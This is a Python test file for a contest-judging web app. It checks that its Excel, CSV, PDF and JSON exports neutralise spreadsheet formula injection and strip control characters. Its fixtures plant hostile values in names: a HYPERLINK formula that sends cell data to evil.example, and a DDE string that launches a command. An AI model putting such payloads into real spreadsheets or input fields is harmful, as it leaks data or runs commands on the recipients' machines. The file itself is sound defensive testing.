"""The files organizers hand over can be trusted (issue 9: items 1, 2, 14, 15, 16, 17).

One locked evening (tests.test_exports.run_evening) is played, then names are rewritten straight in
the database -- formula-looking text that applicants can choose, and control characters that the
input now refuses but an older database may hold -- and the server is started again on that file.
Every export is then opened the way the person receiving it would: the workbook with openpyxl
(no formula cell anywhere), every CSV as Excel on Chinese Windows decodes it (BOM -> UTF-8, else
GBK), the PDF with pdffonts (every font embedded) and rendered with the Chinese fonts taken out of
fontconfig's view (the embedded subset still draws the characters).
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import time
import zipfile

import pytest
from openpyxl import load_workbook
from starlette.testclient import TestClient

from tests.helpers import edit_db, make_client
from tests.test_exports import CID, ORG, pdf_text, run_evening

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
HOSTILE_PROJECTS = {  # project id -> (name, organization, community)
    "P1": (FORMULA, "+cmd|' /C calc'!A0", "@SUM(1+1)"),
    "P2": ("A\x00B 社区花园", "-2+3 公益服务中心", "\t=1+1"),
    "P3": ("J\x0bV 邻里互助", "\r=2+2 协会", "阳光社区"),
}
DATE, VENUE = "2026-05-20", "=梧桐街道党群服务中心三楼报告厅"
HOSTILE_JUDGES = {"E1": "=1+2", "E2": "J\x0bV王", "U1": "@王", "U2": "-周\x1f红梅"}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    db = tmp_path_factory.mktemp("trust") / "evening.db"
    with make_client(db, demo=False) as client:
        run_evening(client)
    edit_db(db, *[("UPDATE projects SET name = ?, organization = ?, community = ? WHERE contest_id = ? AND id = ?",
                   (name, org, com, CID, pid)) for pid, (name, org, com) in HOSTILE_PROJECTS.items()],
            *[("UPDATE judges SET name = ? WHERE contest_id = ? AND id = ?", (name, CID, jid))
              for jid, name in HOSTILE_JUDGES.items()],
            ("UPDATE contests SET name = ? WHERE id = ?", ("=决赛\x00（测试场）", CID)),
            ("UPDATE contests SET date = ?, venue = ? WHERE id = ?", (DATE, VENUE, CID)))
    with make_client(db, demo=False) as client:
        client.db = db  # type: ignore[attr-defined]
        yield client


def fetch(client: TestClient, what: str, **params) -> bytes:
    r = client.get(f"/api/contests/{CID}/export/{what}", headers=ORG, params=params)
    assert r.status_code == 200, (what, r.status_code, r.text[:300])
    return r.content


# ------------------------------------------------------------------ items 1 and 2: Excel

def test_workbook_has_no_formula_cell_and_no_control_character(hostile):
    data = fetch(hostile, "results.xlsx")
    wb = load_workbook(io.BytesIO(data))
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{ws.title}!{c.coordinate} is a live formula: {c.value!r}"
                if isinstance(c.value, str):
                    texts.append(c.value)
    blob = "\n".join(texts)
    assert FORMULA in blob, "the name is shown as it was typed, as text"
    assert "AB 社区花园" in blob and "JV 邻里互助" in blob and "JV王" in blob and "-周红梅" in blob
    assert not any(ch in blob for ch in "\x00\x0b\x1f"), "control characters are removed"
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        xml = "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.endswith(".xml"))
    assert "<f>" not in xml and "<f " not in xml, "no formula element in the file itself"
    summary = wb["成绩汇总"]
    assert summary["A1"].value == "=决赛（测试场）" and summary["A1"].data_type == "s"


# ------------------------------------------------------------------ item 2: PDF and JSON

def test_pdf_and_archive_survive_control_characters(hostile):
    _, text = pdf_text(fetch(hostile, "scoresheets.pdf"))
    assert "AB社区花园" in text and "JV邻里互助" in text and "JV王" in text, "names printed without the controls"
    assert "\x00" not in text and "\x0b" not in text
    archive = fetch(hostile, "archive.json")
    data = json.loads(archive)
    names = {p["id"]: p["name"] for p in data["contest"]["projects"]}
    assert names["P2"] == "A\x00B 社区花园" and names["P1"] == FORMULA, "the archive keeps the exact text"
    assert b"\\u0000" in archive, "JSON escapes the control character"


# ------------------------------------------------------------------ items 1, 2 and 16: CSV

CSVS = ("results.csv", "marks.csv", "projects.csv", "results-machine.csv", "marks-machine.csv",
        "projects-machine.csv")


def as_excel_on_chinese_windows(data: bytes) -> str:
    """What Excel on a Chinese Windows shows: UTF-8 only after a BOM, else the ANSI code page (GBK)."""
    if data.startswith(b"\xef\xbb\xbf"):
        return data[3:].decode("utf-8")
    return data.decode("gbk", errors="replace")


def csv_rows(client: TestClient, what: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(as_excel_on_chinese_windows(fetch(client, what)))))


def test_every_csv_has_a_bom(hostile):
    for what in CSVS:
        assert fetch(hostile, what).startswith(b"\xef\xbb\xbf"), what


def test_people_csvs_have_chinese_headers_and_names(hostile):
    results = csv_rows(hostile, "results.csv")
    assert results[0] == ["名次", "项目编号", "项目名称", "申报机构", "社区", "专家评审团得分", "大众评审团得分", "总分",
                          "加时赛1得分", "并列 / 加时赛", "奖项", "创投资金（元）"]
    live = hostile.get(f"/api/contests/{CID}/results", headers=ORG).json()
    digits = 2  # expert_public.toml rounds to 2 decimals
    by_id = {r[1]: r for r in results[1:]}
    for res in live["results"]:
        row = by_id[res["project"]]
        assert row[7] == f"{res['total']:.{digits}f}" and row[5] == f"{res['panels']['expert']:.{digits}f}"
        ot = res["overtime"].get("overtime1")
        assert row[8] == ("" if ot is None else f"{ot:.{digits}f}"), "overtime scores at the rules' digits"
        assert row[11] == (str(res["grant"]) if res["grant"] else "0")
    assert any(r[8] for r in results[1:]), "the tied projects' overtime scores are there"

    marks = csv_rows(hostile, "marks.csv")
    assert marks[0] == ["轮次", "出场顺序", "项目编号", "项目名称", "评审团", "评委编号", "评委姓名", "评分项", "分数", "来源"]
    body = marks[1:]
    assert {r[0] for r in body} == {"正式路演", "加时赛1"} and {r[4] for r in body} == {"专家评审团", "大众评审团"}
    assert {"需求与问题", "方案设计", "成效与影响", "团队与可持续", "总体评价"} == {r[7] for r in body}
    assert any(r[6] == "张卫东" for r in body) and any("邻里互助" in r[3] for r in body)
    assert all(len(r[8].split(".")[1]) == 1 for r in body), "marks at the step's one decimal (20.0 beside 17.7)"
    assert {r[9] for r in body} == {"手机"}, "every mark of this evening came from a phone (issue 14: 来源)"

    projects = csv_rows(hostile, "projects.csv")
    assert projects[0] == ["出场顺序", "项目编号", "项目名称", "申报机构", "社区", "赛道", "申请金额（元）"]
    assert [r[0] for r in projects[1:]] == [str(i) for i in range(1, 7)], "in running order"


def test_people_csvs_neutralise_formulas_and_drop_control_characters(hostile):
    for what in ("results.csv", "marks.csv", "projects.csv"):
        text = as_excel_on_chinese_windows(fetch(hostile, what))
        assert "\x00" not in text and "\x0b" not in text and "\x1f" not in text, what
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (what, cell)
    projects = {r[1]: r for r in csv_rows(hostile, "projects.csv")}
    assert projects["P1"][2:5] == ["'" + FORMULA, "'+cmd|' /C calc'!A0", "'@SUM(1+1)"]
    assert projects["P2"][2:5] == ["AB 社区花园", "'-2+3 公益服务中心", "'\t=1+1"]
    assert projects["P3"][2:4] == ["JV 邻里互助", "'\r=2+2 协会"]
    judges = {r[6] for r in csv_rows(hostile, "marks.csv")[1:]}
    assert {"'=1+2", "JV王", "'@王", "'-周红梅"} <= judges
    results = csv_rows(hostile, "results.csv")
    assert all(float(r[7]) > 0 for r in results[1:]), "numbers are never prefixed"


def test_machine_csvs_keep_the_exact_text_for_run_py_score(hostile):
    rows = csv_rows(hostile, "projects-machine.csv")
    assert rows[0] == ["project", "name", "track", "requested"]
    assert {r[0]: r[1] for r in rows[1:]}["P1"] == FORMULA, "the machine file is read by run.py, not a spreadsheet"
    assert csv_rows(hostile, "marks-machine.csv")[0] == ["project", "round", "panel", "judge", "criterion", "score"]
    for what in ("results-machine.csv", "projects-machine.csv"):
        assert b"\x00" not in fetch(hostile, what) and b"\x0b" not in fetch(hostile, what), "no CSV reader takes NUL"


# ------------------------------------------------------------------ item 14: fonts embedded

def pgm_pixels(path) -> tuple[int, bytes]:
    """Width and grey pixels of a binary PGM (pdftoppm -gray)."""
    data = path.read_bytes()
    fields, pos = [], 0
    while len(fields) < 4:  # magic, width, height, maxval
        while data[pos:pos + 1].isspace():
            pos += 1
        end = pos
        while not data[end:end + 1].isspace():
            end += 1
        fields.append(data[pos:end])
        pos = end
    assert fields[0] == b"P5"
    return int(fields[1]), data[pos + 1:]


def test_pdf_embeds_a_subset_of_every_font(hostile, tmp_path):
    pdf = tmp_path / "sheets.pdf"
    pdf.write_bytes(fetch(hostile, "scoresheets.pdf"))
    out = subprocess.run(["pdffonts", str(pdf)], capture_output=True, text=True, check=True, timeout=60).stdout
    fonts = out.splitlines()[2:]
    assert fonts, out
    for line in fonts:
        name, emb, sub = line.split()[0], *line.split()[-5:-3]
        assert (emb, sub) == ("yes", "yes"), f"not an embedded subset: {line}"
        assert re.match(r"^[A-Z]{6}\+", name), line


def test_pdf_prints_chinese_on_a_pc_without_chinese_fonts(hostile, tmp_path):
    pdf = tmp_path / "summary.pdf"
    pdf.write_bytes(fetch(hostile, "scoresheets.pdf", part="summary"))
    empty = tmp_path / "no-fonts"
    empty.mkdir()
    conf = tmp_path / "fonts.conf"
    conf.write_text(f'<?xml version="1.0"?>\n<!DOCTYPE fontconfig SYSTEM "fonts.dtd">\n<fontconfig><dir>{empty}</dir>'
                    f'<cachedir>{tmp_path / "fc-cache"}</cachedir></fontconfig>\n', encoding="utf-8")
    bare = {**os.environ, "FONTCONFIG_FILE": str(conf)}
    listed = subprocess.run(["fc-list"], env=bare, capture_output=True, text=True, timeout=60).stdout
    assert listed.strip() == "", "fontconfig sees no font at all"

    def render(name: str, env: dict) -> tuple[int, bytes]:
        subprocess.run(["pdftoppm", "-gray", "-r", "50", "-f", "1", "-l", "1", "-singlefile", str(pdf),
                        str(tmp_path / name)], env=env, check=True, capture_output=True, timeout=60)
        return pgm_pixels(tmp_path / f"{name}.pgm")

    without, with_fonts = render("bare", bare), render("system", dict(os.environ))
    assert without == with_fonts, "the page looks the same whatever fonts the PC has"
    width, pixels = without
    title_band = pixels[width * round(20 / 25.4 * 50):width * round(28 / 25.4 * 50)]  # 20-28 mm: the title only
    ink = sum(1 for px in title_band if px < 128)
    assert ink > 100, f"the title's characters are drawn ({ink} dark pixels)"
    text = subprocess.run(["pdftotext", "-l", "1", str(pdf), "-"], env=bare, capture_output=True, text=True,
                          check=True, timeout=60).stdout
    assert "成绩汇总表" in text and "评审组长签名" in text and "邻里互助" in "".join(text.split())


def test_the_embedded_font_has_a_glyph_for_every_character_printed(hostile):
    from reportlab.pdfbase import pdfmetrics

    from judging.exports.pdf_sheets import FONT, ensure_font

    ensure_font()
    cmap = pdfmetrics.getFont(FONT).face.charToGlyph
    _, text = pdf_text(fetch(hostile, "scoresheets.pdf"))
    missing = sorted({ch for ch in text if ord(ch) not in cmap and not ch.isspace()})
    assert not missing, f"no glyph (a box on paper) for {missing}"


def test_no_font_gives_a_clear_error_and_the_rest_still_works(hostile, monkeypatch, tmp_path):
    from judging.exports import pdf_sheets
    from judging.cli.main import main as run_py

    monkeypatch.setattr(pdf_sheets, "_font_file", None)
    monkeypatch.setattr(pdf_sheets, "FONT_FILES", (("/nonexistent/font.ttc", 0),))
    monkeypatch.delenv("JUDGING_PDF_FONT", raising=False)
    r = hostile.get(f"/api/contests/{CID}/export/scoresheets.pdf", headers=ORG)
    assert r.status_code == 503 and r.json()["code"] == "pdf_font_missing"
    assert "fonts-wqy-microhei" in r.json()["error"] and "apt-get install" in r.json()["error"]
    assert fetch(hostile, "results.xlsx")[:2] == b"PK", "every other export still works"
    assert hostile.get(f"/api/contests/{CID}", headers=ORG).status_code == 200
    assert run_py(["export", "--db", str(hostile.db), "--contest", CID, "--format", "pdf",
                   "--out", str(tmp_path / "x.pdf")]) == 2
    assert not (tmp_path / "x.pdf").exists()


# ------------------------------------------------------------------ item 15: what the hash proves

def test_signed_summary_says_what_the_hash_proves_and_how_to_check_it(hostile):
    head = hostile.get(f"/api/contests/{CID}/audit/verify", headers=ORG).json()
    assert head["ok"] and len(head["last_hash"]) == 64
    _, text = pdf_text(fetch(hostile, "scoresheets.pdf", part="summary"))
    assert f"最后一条为第{head['last_seq']}条" in text and head["last_hash"][:16] in text
    assert "这个哈希证明什么" in text and "打印后成绩没有被改动" in text, "what it proves, in plain Chinese"
    assert f"/console/{CID}/audit" in text and "审计日志" in text, "where the street office looks"
    assert "pythonrun.pyverify" in text, "and the check for an IT person"
    notes = [c.value for c in load_workbook(io.BytesIO(fetch(hostile, "results.xlsx")))["成绩汇总"]["A"]
             if isinstance(c.value, str)]
    assert any(head["last_hash"][:16] in n for n in notes) and any("这个哈希证明什么" in n for n in notes)


@pytest.mark.browser
def test_audit_page_shows_the_number_and_hash_the_paper_prints(browser, live_server):
    from playwright.sync_api import expect

    with live_server.api() as api:
        head = api.get("/api/contests/c1/audit/verify").json()
    page = browser.new_page()
    page.goto(live_server.url + "/login?next=/console/c1/audit")
    page.fill("#key", live_server.key)
    page.click("button[type=submit]")
    page.wait_for_url("**/console/c1/audit")
    expect(page.locator("#last-seq")).to_have_text(str(head["last_seq"]))
    expect(page.locator("#last-hash")).to_have_text(head["last_hash"][:16])
    page.close()


# ------------------------------------------------------------------ item 17: Excel that prints

def printed_pt(ws) -> float:
    """The body text's printed size when Excel fits the sheet to the width of an A4 page: columns are
    7 px a character + 5 px at 96 dpi at 100 %, Calibri 11, half-inch side margins."""
    from openpyxl.utils import get_column_letter

    assert int(ws.page_setup.paperSize) == 9 and int(ws.page_setup.fitToWidth) == 1  # A4, fitted to width
    landscape = ws.page_setup.orientation == "landscape"
    total_mm = sum(((ws.column_dimensions[get_column_letter(i)].width or 8.43) * 7 + 5) / 96 * 25.4
                   for i in range(1, ws.max_column + 1))
    printable = (297 if landscape else 210) - 25.4
    return 11 * min(1.0, printable / total_mm)


def test_every_sheet_prints_at_8_pt_or_more(hostile):
    wb = load_workbook(io.BytesIO(fetch(hostile, "results.xlsx")))
    sizes = {ws.title: round(printed_pt(ws), 1) for ws in wb.worksheets}
    assert all(pt >= 8 for pt in sizes.values()), sizes
    experts = wb["专家评审团"]
    assert [c.value for c in experts[4]][:6] == ["序号", "编号", "项目名称", "轮次", "评委", "需求与问题"], \
        "5 judges x 5 columns would print at ~5 pt: one judge per row instead"
    assert wb["大众评审团"]["E4"].value.endswith("（U1）"), "6 judges x 1 column fit: the wide layout stays"


def test_marks_have_the_step_format_and_scores_the_rules_digits(hostile):
    wb = load_workbook(io.BytesIO(fetch(hostile, "results.xlsx")))
    experts = wb["专家评审团"]
    marks = [c for row in experts.iter_rows(min_row=5) for c in row[5:10] if isinstance(c.value, (int, float))]
    assert marks and all(c.number_format == "0.0" for c in marks), "20 shows as 20.0 beside 17.7 (step 0.1)"
    assert all(c.number_format == "0.00" for c in (row[11] for row in experts.iter_rows(min_row=5)) if c.value)
    public = wb["大众评审团"]
    assert all(c.number_format == "0.0" for row in public.iter_rows(min_row=6) for c in row[4:10]
               if isinstance(c.value, (int, float)))


def test_summary_has_the_money_total_and_the_budget(hostile):
    import tomllib

    rules = tomllib.loads(hostile.get(f"/api/contests/{CID}/rules.toml", headers=ORG).text)
    live = hostile.get(f"/api/contests/{CID}/results", headers=ORG).json()["results"]
    ws = load_workbook(io.BytesIO(fetch(hostile, "results.xlsx")))["成绩汇总"]
    lines = {r[0].value: r[-1] for r in ws.iter_rows(min_row=5) if isinstance(r[0].value, str)}
    total = sum(r["grant"] for r in live)
    assert lines["创投资金合计"].value == total and lines["创投资金合计"].number_format == '"¥"#,##0'
    assert lines["创投资金预算"].value == rules["grants"]["budget"]
    assert lines["预算结余"].value == rules["grants"]["budget"] - total


def test_rules_sheet_is_in_chinese_words_and_the_toml_wraps_on_its_own_sheet(hostile):
    wb = load_workbook(io.BytesIO(fetch(hostile, "results.xlsx")))
    words = [r[1].value for r in wb["评分规则"].iter_rows(min_row=4) if r[1].value]
    assert any("最小单位 0.1 分" in w for w in words) and any("各项满分：需求与问题 25 分" in w for w in words)
    assert not any("Expert panel" in w or "=" in w for w in words), "no TOML and no English labels"
    assert all(r[1].alignment.wrap_text for r in wb["评分规则"].iter_rows(min_row=4) if r[1].value)
    toml = wb["规则文件"]
    assert toml["A4"].value.startswith("#") and all(c.alignment.wrap_text for c in toml["A"][3:])


# ------------------------------------------------------------------ item 17: the contest's date and venue

def test_date_and_venue_are_on_the_workbook_and_the_pdf_summary(hostile):
    wb = load_workbook(io.BytesIO(fetch(hostile, "results.xlsx")))
    subtitle = wb["成绩汇总"]["A2"].value
    assert f"日期：{DATE}" in subtitle and f"地点：{VENUE}" in subtitle
    setup = {r[0].value: r[1].value for r in wb["比赛设置"].iter_rows() if r[0].value}
    assert setup["比赛日期"] == DATE and setup["比赛地点"] == VENUE and wb["比赛设置"]["B5"].data_type == "s"
    _, text = pdf_text(fetch(hostile, "scoresheets.pdf", part="summary"))
    assert f"比赛日期：{DATE}" in text and f"比赛地点：{VENUE}" in text
    assert "创投资金合计：" in text and "预算" in text
    archive = json.loads(fetch(hostile, "archive.json"))["contest"]
    assert (archive["date"], archive["venue"]) == (DATE, VENUE)


def test_setup_api_takes_a_checked_date_and_venue(tmp_path):
    from tests.test_exports import setup_body

    with make_client(tmp_path / "dv.db", demo=False) as client:
        r = client.post("/api/contests", headers=ORG, json={**setup_body(), "date": DATE, "venue": " 花园社区礼堂 "})
        assert r.status_code == 201, r.text
        assert (r.json()["setup"]["date"], r.json()["setup"]["venue"]) == (DATE, "花园社区礼堂")
        for bad, field in (({"date": "2026-13-01"}, "date"), ({"date": "20260520"}, "date"),
                           ({"date": "2026-5-2"}, "date"), ({"venue": "场" * 101}, "venue"), ({"venue": 7}, "venue"),
                           ({"date": ["2026-05-20"]}, "date")):
            r = client.patch(f"/api/contests/{CID}", headers=ORG, json=bad)
            assert r.status_code == 422 and field in r.json()["errors"], (bad, r.text)
        r = client.patch(f"/api/contests/{CID}", headers=ORG, json={"date": "2026-06-01", "venue": "场" * 100})
        assert r.status_code == 200 and r.json()["setup"]["date"] == "2026-06-01"
        audit = client.get(f"/api/contests/{CID}/audit/entries", headers=ORG).json()["entries"]
        assert "日期 2026-06-01" in audit[0]["after"], "the change is in the audit trail, in words"
        archive = client.get(f"/api/contests/{CID}/export/archive.json", headers=ORG).content
    with make_client(tmp_path / "dv.db", demo=False) as client:
        setup = client.get(f"/api/contests/{CID}", headers=ORG).json()["setup"]
        assert (setup["date"], setup["venue"]) == ("2026-06-01", "场" * 100), "kept across a restart"
    with make_client(tmp_path / "other.db", demo=False) as client:
        r = client.post("/api/contests/import", headers=ORG, content=archive)
        assert r.status_code == 201 and r.json()["setup"]["date"] == "2026-06-01", "and through an archive"


def test_a_database_from_before_the_date_column_opens(tmp_path):
    from judging.storage.store import MIGRATIONS, _statements

    db = tmp_path / "v1.db"
    edit_db(db, *_statements(MIGRATIONS[0]), "PRAGMA user_version = 1")
    with make_client(db) as client:
        setup = client.get("/api/contests/c1", headers=ORG).json()["setup"]
        assert (setup["date"], setup["venue"]) == ("", "")


@pytest.mark.browser
def test_setup_page_saves_the_date_and_venue_and_the_console_shows_them(browser, live_server):
    from playwright.sync_api import expect

    page = browser.new_page()
    errors: list[str] = []
    page.on("pageerror", lambda e: errors.append(str(e)))
    page.goto(live_server.url + "/login?next=/console/c1/setup")
    page.fill("#key", live_server.key)
    page.click("button[type=submit]")
    page.wait_for_url("**/console/c1/setup")
    page.fill("#f-date", DATE)
    page.fill("#f-venue", "花园社区礼堂")
    page.click("#basics-form button[type=submit]")
    with live_server.api() as api:
        deadline = time.time() + 5
        while api.get("/api/contests/c1").json()["setup"]["venue"] != "花园社区礼堂":
            assert time.time() < deadline, "the basics were not saved"
            page.wait_for_timeout(100)
    page.goto(live_server.url + "/console/c1")
    expect(page.locator("#when-where")).to_have_text(f"{DATE} · 花园社区礼堂")
    assert errors == []
    page.close()


def test_the_text_cleaner_and_the_csv_neutraliser():
    from judging.exports.text import clean, csv_text

    assert clean("A\x00B\x0bC\x1fD\ufffeE") == "ABCDE" and clean("行\t一\n二\r") == "行\t一\n二\r"
    assert clean("x\ud800y") == "x\ufffdy" and clean(None) == "" and clean(12.5) == "12.5"
    for risky in ("=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1"):
        assert csv_text(risky) == "'" + risky
    assert csv_text("邻里=守望") == "邻里=守望" and csv_text("\x00=1") == "'=1", "cleaned first, then checked"
